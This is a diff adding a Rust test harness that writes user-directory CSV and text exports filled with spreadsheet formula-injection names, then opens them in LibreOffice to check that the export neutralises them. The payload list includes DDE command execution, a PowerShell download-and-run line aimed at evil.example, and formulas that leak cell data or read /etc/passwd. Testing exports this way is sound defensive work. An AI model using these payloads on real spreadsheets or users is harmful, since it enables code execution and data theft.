@@ -1,0 +1,123 @@
+//! Writes what a spreadsheet program may be given of this page, full of cells that try to be formulas, into a directory:
+//! `users.csv`, `report.csv` and `report.txt`, and beside each what every cell has to say, as JSON.
+//! `make check-csv` opens them in LibreOffice.
+
+use std::{env, error::Error, fs, path::Path};
+
+use serde_json::json;
+use wallaroo_directory::{
+    Directory,
+    export::{Format, export},
+    guard::Change,
+    plan::{Run, as_csv, as_text},
+    user::{Record, UserId},
+};
+
+/// What somebody may have put into a name.
+const AWKWARD: [&str; 72] = [
+    "=1+1",
+    "=SUM(A1:A9)",
+    "=A1",
+    "=\"a\"&\"b\"",
+    "=HYPERLINK(\"http://evil.example\",\"click\")",
+    "=WEBSERVICE(\"http://evil.example\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget evil.example)'!A0",
+    "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
+    "='file:///etc/passwd'#$passwd.A1",
+    "=INFO(\"system\")",
+    "=CELL(\"filename\")",
+    "+1",
+    "+1+cmd|' /C calc'!A0",
+    "+A1",
+    "+49 30 1234",
+    "-1",
+    "-2+3",
+    "-2+3+cmd|' /C calc'!D2",
+    "-A1",
+    "--1",
+    "@SUM(1+1)",
+    "@A1",
+    "@ada",
+    "=",
+    "+",
+    "-",
+    "@",
+    "==",
+    "=-1",
+    "+-1",
+    " =1+1",
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\u{a0}=1+1",
+    "\u{200b}=1+1",
+    "\u{feff}=1+1",
+    "\u{2003}+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "'=1+1",
+    "''=1+1",
+    "\"=1+1",
+    "\"=1+1\"",
+    "=1+1\"",
+    "a\"=1+1",
+    "a,=1+1",
+    "a;=1+1",
+    "a\t=1+1",
+    "a\n=1+1",
+    "a\r\n=1+1",
+    "a\",=1+1,\"b",
+    ",=1+1",
+    ";=1+1",
+    "x\n\"=1+1\"\ny",
+    "{=1+1}",
+    "Ada \"the Countess\" Lovelace",
+    "Zoë 🚀 O’Neil",
+    "אבג =1+1",
+    "e\u{301}=1",
+    "sep=;",
+    "ID",
+    "a=1+1",
+    "a  b",
+    "100 %",
+    "of:=1+1",
+    "msoxl:=1+1",
+];
+
+fn main() -> Result<(), Box<dyn Error>> {
+    let directory = env::args().nth(1).ok_or("say into which directory")?;
+    let directory = Path::new(&directory);
+    fs::create_dir_all(directory)?;
+
+    let record = |(number, name): (usize, &&str)| {
+        let user = json!({"id": format!("id{number}"), "username": name, "firstName": name, "enabled": true});
+        Record::decode(&format!("id{number}"), &user.to_string())
+    };
+    let list = Directory::new(AWKWARD.iter().enumerate().map(record).collect());
+    let ids: Vec<UserId> = list.records().map(|record| record.id().clone()).collect();
+    write(directory, "users.csv", &export(&list, &ids, Format::Csv), b',')?;
+
+    let mut run = Run::changes(Change::Deactivate, &ids, &list, None);
+    run.cancel();
+    write(directory, "report.csv", &as_csv(&run.report()), b',')?;
+    write(directory, "report.txt", &as_text(&run.report()), b'\t')?;
+    Ok(())
+}
+
+/// The file, and the cells in it as RFC 4180 has them.
+fn write(directory: &Path, name: &str, text: &str, separator: u8) -> Result<(), Box<dyn Error>> {
+    fs::write(directory.join(name), text)?;
+    let mut reader = csv::ReaderBuilder::new();
+    let reader = reader.has_headers(false).delimiter(separator);
+    let mut rows: Vec<Vec<String>> = Vec::new();
+    for row in reader.quoting(separator == b',').from_reader(text.as_bytes()).records() {
+        rows.push(row?.iter().map(str::to_owned).collect());
+    }
+    fs::write(directory.join([name, ".json"].concat()), json!(rows).to_string())?;
+    Ok(())
+}
